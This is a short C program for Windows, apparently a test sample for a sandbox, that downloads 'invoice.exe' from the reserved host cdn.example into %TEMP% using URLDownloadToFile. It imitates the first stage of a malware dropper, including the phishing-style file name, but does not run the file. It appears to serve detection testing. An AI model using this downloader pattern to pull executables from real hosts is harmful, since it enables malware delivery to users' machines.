/* URLDownloadToFile from a reserved host into %TEMP% (only ever inside a private netns). */
#include <windows.h>
#include <urlmon.h>
#include <stdio.h>
int main(void) {
    char tmp[MAX_PATH], dst[MAX_PATH];
    GetTempPathA(MAX_PATH, tmp);
    snprintf(dst, sizeof dst, "%sinvoice.exe", tmp);
    HRESULT hr = URLDownloadToFileA(NULL, "http://cdn.example/invoice.exe", dst, 0, NULL);
    printf("URLDownloadToFile -> 0x%08lx\n", (unsigned long)hr);
    return 0;
}
